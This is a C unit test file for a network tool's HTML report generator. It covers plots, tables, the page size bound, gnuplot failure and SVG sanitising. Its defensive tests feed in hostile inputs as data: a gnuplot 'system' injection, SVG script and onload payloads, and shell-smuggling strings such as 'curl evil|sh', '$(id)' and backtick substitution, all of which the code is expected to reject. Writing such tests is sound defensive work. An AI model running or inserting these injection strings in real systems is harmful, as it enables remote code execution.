/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The page: its plots and the program that draws them, its tables, its bound, and what it offers for copying. */
#include "cmocka_all.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "base/text.h"
#include "base/when.h"
#include "report/gnuplot.h"
#include "report/html.h"
#include "report/html_table.h"
#include "report/report.h"
#include "report/report_plots.h"
#include "report/report_words.h"
#include "result_build.h"
#include "temp_folder.h"

static int count_of(const char *haystack, const char *needle)
{
	int n = 0;

	for (; (haystack = strstr(haystack, needle)); haystack += strlen(needle))
		n++;
	return n;
}

static void test_page_asks_nobody_and_draws_its_plots(void **state)
{
	struct result *r = result_rich();
	struct text t = {0};

	(void)state;
	report_html(r, &t);
	assert_non_null(strstr(text_str(&t), "default-src 'none'; style-src 'sha256-"));
	assert_null(strstr(text_str(&t), "http://"));
	assert_null(strstr(text_str(&t), "https://"));
	assert_null(strstr(text_str(&t), " src="));
	assert_null(strstr(text_str(&t), " style="));
	assert_null(strstr(text_str(&t), "@import"));
	assert_int_equal(count_of(text_str(&t), "<figure class=\"plot\">"), 5);
	assert_non_null(strstr(text_str(&t), "id=\"D1\""));
	assert_non_null(strstr(text_str(&t), "id=\"F5\""));
	assert_false(r->plots_failed);
	text_free(&t);
	result_free(r);
}

static void test_plots_follow_from_a_whole_table_only(void **state)
{
	struct result *r = result_rich();
	double fine = 0, failed = 0;
	int before = r->plot_count;

	(void)state;
	r->connections_left_out = 1;
	report_plots_add(r);
	assert_int_equal(r->plot_count, before);
	r->connections_left_out = 0;
	report_plots_add(r);
	report_plots_add(r); /* once is enough */
	assert_int_equal(r->plot_count, before + 2);
	assert_string_equal(r->plots[0]->id, "connections-over-time");
	assert_string_equal(r->plots[1]->id, "handshake-stages");
	for (int i = 0; i < r->plots[0]->lines[0].count; i++) {
		fine += r->plots[0]->lines[0].y[i];
		failed += r->plots[0]->lines[1].y[i];
	}
	assert_true(fine == 20 && failed == 4);
	result_free(r);
}

static void test_resets_are_counted_by_their_delay(void **state)
{
	struct result *r = result_rich();
	const struct plot *p = NULL;
	double all = 0;

	(void)state;
	for (int i = 0; i < r->connection_count; i++) {
		struct connection_row *row = &r->connections[i];

		row->outcome = i < 3 ? OUTCOME_RESET : OUTCOME_OK;
		row->record->conn.rst_count = 1;
		row->record->conn.rsts[0].after_peer_ns = i < 2 ? 5004 * NS_PER_MS : 2 * NS_PER_MS;
	}
	report_plots_add(r);
	for (int i = 0; i < r->plot_count; i++)
		if (strcmp(r->plots[i]->id, "rst-delay") == 0)
			p = r->plots[i];
	assert_non_null(p);
	for (int i = 0; i < p->lines[0].count; i++)
		all += p->lines[0].y[i];
	assert_true(all == 3);
	assert_true(p->lines[0].y[0] == 1);
	assert_true(p->lines[0].y[p->lines[0].count - 1] == 2);
	assert_non_null(strstr(p->says, "3 conversations were reset 2.0 ms to 5.0 s"));
	result_free(r);
}

static void test_columns_without_a_value_are_left_out(void **state)
{
	static const struct column columns[] = {{"First", false}, {"Never", false}, {"Second", true}};
	struct text t = {0};
	size_t begin = table_open(&t, "x", "X", COLUMNS(columns));

	(void)state;
	for (int i = 0; i < 3; i++) {
		text_add(&t, "<tr>");
		cell_text(&t, i == 1 ? "<td>" : "");
		cell_text(&t, NULL);
		cell_count(&t, 1000);
		text_add(&t, "</tr>\n");
	}
	table_close(&t, begin, 0, "");
	assert_null(strstr(text_str(&t), "Never"));
	assert_non_null(strstr(text_str(&t), "First</th><th scope=\"col\" class=\"n\">Second"));
	assert_non_null(strstr(text_str(&t), "<tr><td>&lt;td&gt;</td><td class=\"n\" data-v=\"1000\">1,000</td></tr>"));
	assert_non_null(strstr(text_str(&t), "<tr><td></td><td class=\"n\" data-v=\"1000\">"));
	text_free(&t);
}

static void test_page_stays_below_its_bound(void **state)
{
	struct result *r = result_huge(20000);
	struct text t = {0};

	(void)state;
	report_html(r, &t);
	assert_true(t.len < HTML_BYTES_MAX);
	assert_non_null(strstr(text_str(&t), "more rows are not in this page"));
	assert_non_null(strstr(text_str(&t), "</html>"));
	text_free(&t);
	result_free(r);
}

static void test_page_is_complete_without_gnuplot(void **state)
{
	struct result *r = result_rich();
	char *path = xstrdup(getenv("PATH"));
	struct text t = {0};

	(void)state;
	setenv("PATH", "/nonexistent", 1);
	report_html(r, &t);
	setenv("PATH", path, 1);
	assert_true(r->plots_failed);
	assert_non_null(strstr(text_str(&t), "gnuplot could not be run"));
	assert_non_null(strstr(text_str(&t), "id=\"connections\""));
	free(path);
	text_free(&t);
	result_free(r);
}

/* A program of that name that ends without reading, and says nothing. */
static void test_a_gnuplot_that_fails_ends_nothing_else(void **state)
{
	char *path = xstrdup(getenv("PATH")), program[128], folders[64];
	struct text script = {0}, svg = {0};
	int fd;

	(void)state;
	path_in(program, sizeof(program), "gnuplot");
	path_in(folders, sizeof(folders), "");
	fd = open(program, O_WRONLY | O_CREAT, 0755);
	assert_int_equal(write(fd, "#!/bin/false\n", 13), 13);
	close(fd);
	for (int i = 0; i < 400000; i++)
		text_add(&script, "# more than a socket holds\n");
	setenv("PATH", folders, 1);
	assert_false(gnuplot_run(&script, &svg));
	setenv("PATH", path, 1);
	unlink(program);
	free(path);
	text_free(&script);
	text_free(&svg);
}

static void test_facts_are_told_with_their_units(void **state)
{
	struct finding f = {0};
	struct text t = {0};

	(void)state;
	finding_number(&f, "delay_s", 5.01);
	finding_number(&f, "per_s", 120.5);
	finding_number(&f, "rate", 0.031);
	finding_number(&f, "rate_bps", 1234567.8);
	finding_null(&f, "sni");
	for (int i = 0; i < f.fact_count; i++) {
		words_fact(&t, &f.facts[i]);
		text_add(&t, "; ");
	}
	assert_string_equal(text_str(&t), "5.0 s; 120.5; 3.1 %; 1,234,568; unknown; ");
	free(f.facts);
	text_free(&t);
}

static void test_gnuplot_sees_numbers_and_constants_only(void **state)
{
	struct result *r = result_hostile();
	struct text t = {0};

	(void)state;
	gnuplot_script(r->plots[0], &t);
	assert_null(strstr(text_str(&t), "system"));
	assert_null(strstr(text_str(&t), "alert"));
	assert_null(strchr(text_str(&t), '`'));
	text_clear(&t);
	r->plots[0]->x_label = "a' ; system 'id";
	gnuplot_script(r->plots[0], &t);
	assert_null(strstr(text_str(&t), "system"));
	text_free(&t);
	result_free(r);
}

static void test_long_series_keep_their_peak(void **state)
{
	struct result *r = xcalloc(1, sizeof(*r));
	struct plot *p = result_plot(r, "rtt", "x", "x", "y");
	struct plot_line *l = plot_line(p, "x");
	struct text t = {0};

	(void)state;
	for (int i = 0; i < 100000; i++)
		plot_point(l, i, i == 54321 ? 99.5 : 1 + i % 2);
	gnuplot_script(p, &t);
	assert_non_null(strstr(text_str(&t), "\n54321 99.5\n"));
	assert_true(count_of(text_str(&t), "\n") < PLOT_POINTS_MAX + 40);
	text_free(&t);
	result_free(r);
}

static void test_svg_loses_all_but_its_shapes(void **state)
{
	static const char svg[] = "<svg><defs><script>x</script></defs><g stroke=\"none\" transform=\"translate(1,2)\" "
				  "text-anchor=\"end\" onload=\"x\"><text>5 &lt;</text></g><script>alert(1)</script>"
				  "<path stroke='rgb(  0,   0,   2)' style='x' d='M1,2 L3,4'/>"
				  "<path stroke='rgb(  1,   0,   0)' d='M1\"><script>'/><a href='x'>y</a></svg>";
	struct text t = {0};

	(void)state;
	svg_plain(&t, svg);
	assert_string_equal(text_str(&t), "<text transform=\"translate(1,2)\" text-anchor=\"end\">5 &amp;lt;</text>\n"
					  "<path class=\"s2\" d=\"M1,2 L3,4\"/>\n<path class=\"axis\"/>\n");
	text_free(&t);
}

static void check_step(const char *step, const char *command)
{
	struct step_parts parts;

	if (!command) {
		assert_false(words_step(step, &parts));
		return;
	}
	assert_true(words_step(step, &parts));
	assert_int_equal(parts.command_len, strlen(command));
	assert_memory_equal(parts.command, command, strlen(command));
}

static void test_commands_are_found_in_steps(void **state)
{
	(void)state;
	check_step("Ask who runs the firewall", NULL);
	check_step("tcpdump -ni eth0 port 443", "tcpdump -ni eth0 port 443");
	check_step("On the server: ss -lnp 'sport = :443'", "ss -lnp 'sport = :443'");
	check_step("Count them: ss -tan state time-wait | wc -l", "ss -tan state time-wait | wc -l");
	check_step("Capture whole frames: tcpdump -s 0, then look again", "tcpdump -s 0");
	check_step("openssl s_client -connect a:1 (from there, too)", "openssl s_client -connect a:1");
	check_step("Say: nothing", NULL);
}

static void test_nothing_that_a_shell_acts_on_is_offered_for_copying(void **state)
{
	(void)state;
	check_step("openssl s_client -servername x;curl evil|sh", NULL);
	check_step("openssl s_client -servername $(id)", NULL);
	check_step("openssl s_client -servername `id`", NULL);
	check_step("tcpdump 'host x' ' or ", NULL);
	check_step("Ask x: y: curl evil", NULL);
	check_step("ss -tan | sh", NULL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_page_asks_nobody_and_draws_its_plots),
		cmocka_unit_test(test_plots_follow_from_a_whole_table_only),
		cmocka_unit_test(test_resets_are_counted_by_their_delay),
		cmocka_unit_test(test_columns_without_a_value_are_left_out),
		cmocka_unit_test(test_page_stays_below_its_bound),
		cmocka_unit_test(test_page_is_complete_without_gnuplot),
		cmocka_unit_test(test_a_gnuplot_that_fails_ends_nothing_else),
		cmocka_unit_test(test_facts_are_told_with_their_units),
		cmocka_unit_test(test_gnuplot_sees_numbers_and_constants_only),
		cmocka_unit_test(test_long_series_keep_their_peak),
		cmocka_unit_test(test_svg_loses_all_but_its_shapes),
		cmocka_unit_test(test_commands_are_found_in_steps),
		cmocka_unit_test(test_nothing_that_a_shell_acts_on_is_offered_for_copying),
	};

	return cmocka_run_group_tests(tests, temp_folder_make, temp_folder_remove);
}
